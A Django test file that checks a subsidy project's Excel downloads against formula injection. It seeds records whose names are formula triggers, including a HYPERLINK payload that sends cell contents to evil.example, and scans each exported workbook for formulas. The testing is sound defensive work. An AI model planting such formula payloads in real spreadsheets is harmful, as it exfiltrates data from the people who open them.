"""Every workbook the project writes holds typed text as text: an organisation named
`=1+2&…` or a title `=HYPERLINK(…)` never becomes a live formula when the reader enables
editing. Each Excel download is fetched with such names in it and scanned for `<f>`; a test
fails when a new download or a workbook written outside subsidy/excel.py appears."""

import io
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from openpyxl import load_workbook

from accounts.models import Role
from config.access import routes
from publicity.models import AcceptanceBatch
from subsidy.models import ExpertAssignment
from workflows.stages import State

from .factories import (
    ApplicationFactory,
    CountyReviewerFactory,
    OrganisationFactory,
    UserFactory,
    awaiting_payment,
    region,
)
from .helpers import at, signed_in
from .publicity_data import TODAY, published_batch

pytestmark = [pytest.mark.django_db, pytest.mark.today(TODAY)]
ORGANISATION = '=1+2&"衡阳"'
TITLE = '=HYPERLINK("http://evil.example/?"&B3&C3,"查看申报书")'
OTHER_TRAPS = ("+SUM(1,2)", "-2+3", "@SUM(1)")


@pytest.fixture
def hostile(programme, city):
    """Applications whose organisation and title look like formulas, in every list."""
    org = OrganisationFactory(name=ORGANISATION, region=region("430405"))

    def item(state, title=TITLE):
        return at(ApplicationFactory(programme=programme, organisation=org, title=title,
                                     approved_amount=1000), state)

    item(State.COUNTY_REVIEW)
    for trap in OTHER_TRAPS:
        item(State.CITY_REVIEW, title=trap)
    item(State.ACCEPTANCE_REVIEW)
    accepted = item(State.ACCEPTANCE_PASSED)
    AcceptanceBatch.objects.create(programme=programme, number=1,
                                   created_by=city).applications.add(accepted)
    awaiting_payment(programme=programme, organisation=org, title=TITLE)
    expert = UserFactory(role=Role.EXPERT)
    ExpertAssignment.objects.create(application=item(State.EXPERT_REVIEW), expert=expert,
                                    assigned_by=city)
    batch, _apps = published_batch(programme, city, apps=[item(State.APPROVED)])
    applicant = UserFactory(role=Role.APPLICANT, organisation=org)
    return {"batch": batch, "expert": expert, "applicant": applicant}


def downloads(programme, people, hostile):
    """(URL name, who fetches it, URL) of every Excel download."""
    query = f"?programme={programme.pk}"
    return [
        ("desk:review:import", people["county"], "/desk/review/import/?template=1"),
        ("desk:review:import", people["city"], "/desk/review/import/?template=1"),
        ("desk:review:import", people["finance"], "/desk/review/import/?template=1"),
        ("desk:review:export", people["city"], "/desk/review/export/?all=1"),
        ("desk:publicity:excel", people["city"], f"/desk/publicity/excel/{query}"),
        ("desk:publicity:acceptance_excel", people["city"],
         f"/desk/publicity/acceptance/excel/{query}"),
        ("desk:notices:excel", people["city"], f"/desk/notices/excel/{query}"),
        ("desk:budget:excel", people["city"], f"/desk/budget/excel/{query}"),
        ("desk:reports:excel", people["city"], f"/desk/reports/excel/{query}"),
        ("desk:reports:county_excel", people["city"], f"/desk/reports/county/excel/{query}"),
        ("desk:reports:half_year_excel", people["city"],
         f"/desk/reports/half-year/excel/{query}"),
        ("desk:experts:excel", hostile["expert"], "/desk/experts/excel/"),
        ("publicity_excel", None, f"/publicity/{hostile['batch'].pk}/excel/"),
        ("dashboard_excel", hostile["applicant"], "/my/excel/"),
    ]


def parts_with_formulas(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [name for name in archive.namelist()
                if re.search(rb"<f[ >]", archive.read(name))]


def values(content: bytes) -> set:
    book = load_workbook(io.BytesIO(content))
    return {cell.value for sheet in book for row in sheet.iter_rows() for cell in row}


def test_no_workbook_holds_a_formula(programme, city, finance, hostile):
    people = {"county": CountyReviewerFactory(region=region("430405")), "city": city,
              "finance": finance}
    listed_traps = 0
    for name, user, url in downloads(programme, people, hostile):
        client = signed_in(user) if user else Client()
        response = client.get(url)
        assert response.status_code == 200, (name, url, response.status_code)
        assert response["Content-Type"].startswith(
            "application/vnd.openxmlformats-officedocument.spreadsheetml"), url
        assert parts_with_formulas(response.content) == [], url
        listed_traps += bool(values(response.content) & {ORGANISATION, TITLE, *OTHER_TRAPS})
    assert listed_traps >= 8  # most lists name the hostile projects: the scan saw them


def test_every_excel_download_is_scanned(programme, city, finance, hostile):
    people = {"county": None, "city": None, "finance": None}
    scanned = {name for name, _user, _url in downloads(programme, people, hostile)}
    offered = {name for path, name, _view in routes() if "excel" in path or "import" in path}
    assert offered <= scanned | {"desk:review:export"}, offered - scanned


def test_workbooks_are_written_only_through_the_one_writer():
    root = Path(settings.BASE_DIR)
    writers = sorted(path.relative_to(root).as_posix() for path in root.rglob("*.py")
                     if path.relative_to(root).parts[0] not in {".venv", "tests", "var"}
                     and re.search(r"\bWorkbook\(|\.create_sheet\(", path.read_text()))
    assert writers == ["subsidy/excel.py"]
